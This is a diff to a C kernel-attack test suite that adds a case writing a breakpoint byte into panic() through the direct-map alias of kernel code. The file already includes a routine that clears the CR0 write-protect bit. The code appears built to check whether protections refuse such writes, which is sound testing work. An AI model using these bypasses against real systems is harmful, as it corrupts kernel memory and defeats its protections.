@@ -6,6 +6,8 @@
 #include <setjmp.h>
 #include <sys/mman.h>
 
+#define KERNEL_BASE 0xffffffff80000000 /* Linux's too, when nothing moves it */
+
 static void read_kernel_text(void)
 {
 	volatile uint64_t *at = (void *)kernel_symbol("text");
@@ -24,18 +26,19 @@ static void write_kernel_data(void)
 	saw("stored", "uname says %s", kernel_changed() ? OWNED : "what it said before");
 }
 
-static void store_in_text(void)
+/* `by` is what is added to the address that the kernel itself calls it by. */
+static void store_in_text(uintptr_t by)
 {
-	volatile uint8_t *at = (void *)kernel_symbol("panic");
-	uint8_t old = *at;
+	volatile uint8_t *at = (void *)(kernel_symbol("panic") + by), *there = (void *)kernel_symbol("panic");
+	uint8_t old = *there;
 
 	*at = 0xcc;
-	saw(*at == 0xcc ? "stored" : "refused", "the first byte of panic() was %02x and is %02x", old, *at);
+	saw(*there == 0xcc ? "stored" : "refused", "the first byte of panic() was %02x and is %02x", old, *there);
 }
 
 static void write_kernel_text(void)
 {
-	store_in_text();
+	store_in_text(0);
 }
 
 /* The adaptive one: write protection is a bit in a register. */
@@ -45,7 +48,13 @@ static void write_kernel_text_wp(void)
 
 	asm volatile("mov %%cr0, %0" : "=r"(cr0));
 	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~(1ul << 16)));
-	store_in_text();
+	store_in_text(0);
+}
+
+/* Or by the other name of the same memory: the map of all memory shows the kernel's code too. */
+static void write_kernel_text_alias(void)
+{
+	store_in_text(kernel_symbol("direct") - KERNEL_BASE);
 }
 
 static void read_process(void)
@@ -213,6 +222,7 @@ const struct attack memory_attacks[] = {
 	{"write-kernel-data", write_kernel_data},
 	{"write-kernel-text", write_kernel_text},
 	{"write-kernel-text-wp", write_kernel_text_wp},
+	{"write-kernel-text-alias", write_kernel_text_alias},
 	{"read-process", read_process},
 	{"write-process", write_process},
 	{"search-memory", search_memory},
